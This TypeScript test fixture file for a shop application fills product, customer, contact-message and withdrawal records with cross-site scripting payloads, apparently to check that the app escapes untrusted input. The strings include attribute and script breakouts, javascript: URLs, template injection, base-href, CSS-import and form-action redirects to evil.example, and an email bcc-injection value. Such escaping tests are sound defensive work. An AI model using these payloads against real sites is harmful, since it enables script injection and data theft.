import { pesos } from '#domain/money/centavos.ts';
import type { Customer } from '#domain/orders/order.ts';
import type { Product } from '#domain/products/product.ts';
import type { WireContactMessage } from '#schemas/contact-message.ts';
import { aThread } from './a-thread.ts';

/** Breaks out of an attribute and a script, and runs its own code; its 39 letters fit into a product's code. */
export const PLANTED = `'"></script><img src=x onerror=pwned=1>`;

/** Other texts that fit short fields. */
const PLANTED_URL = 'javascript:pwned=1//"><svg/onload=pwned=1>';
const PLANTED_TAG = '</title></style></textarea><iframe srcdoc="<script>parent.pwned=1</script>">';
const PLANTED_HANDLER = `" onfocus=pwned=1 autofocus tabindex=1 x=' onmouseover=pwned=1 `;

/** All attacks together, for longer fields: comments, CDATA, templates, odd line ends, a style. */
export const PLANTED_LONG = [
  ...[PLANTED, PLANTED_URL, PLANTED_TAG, PLANTED_HANDLER],
  ...[
    '<!--<script>',
    ']]><x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned=1</x:script>',
    '\u2028pwned=1\u2029',
  ],
  ...[
    '{{constructor.constructor("pwned=1")()}}',
    '#{pwned=1}',
    '<math><mi//xlink:href="data:x,<script>pwned=1</script>">',
  ],
  ...[
    '</style><style>@import "//evil.example/x"</style>',
    '<base href=//evil.example>',
    '<a href="javascript:pwned=1">x</a>',
  ],
  ...[
    '<form action=//evil.example><button>x',
    '&lt;script&gt;pwned=1&lt;/script&gt;',
    '[x](javascript:pwned=1)',
  ],
].join(' ');

/** A product with a script in every field. */
export function aPlantedProduct(changes: Partial<Product> = {}): Product {
  return aThread({
    brand: PLANTED_TAG,
    name: `${PLANTED} ${PLANTED_URL}`,
    summary: `${PLANTED} ${PLANTED_TAG} ${PLANTED_HANDLER}`.slice(0, 200),
    description: PLANTED_LONG,
    specifications: PLANTED_LONG,
    colours: [PLANTED, PLANTED_URL, PLANTED_TAG, PLANTED_HANDLER.trim()],
    altTexts: [`${PLANTED} ${PLANTED_HANDLER}`],
    code: PLANTED,
    isOffer: true,
    price: pesos(5000),
    ...changes,
  });
}

export const PLANTED_CUSTOMER: Customer = {
  firstName: PLANTED,
  lastName: PLANTED_HANDLER.trim(),
  phone: '3496401923',
  email: 'a%22onfocus%3dpwned%3d1+b@correo.test',
};

export const PLANTED_MESSAGE: WireContactMessage = {
  userName: PLANTED,
  userEmail: 'a%3fbcc=mal%40evil.example@correo.test'.replace('=', '%3d'),
  userPhone: PLANTED_URL.slice(0, 40),
  userLocation: PLANTED_HANDLER,
  userMessage: PLANTED_LONG,
};

export const PLANTED_WITHDRAWAL = {
  name: PLANTED,
  contact: '3496401923',
  orderNumber: '<b>1</b>',
  text: PLANTED_LONG,
};
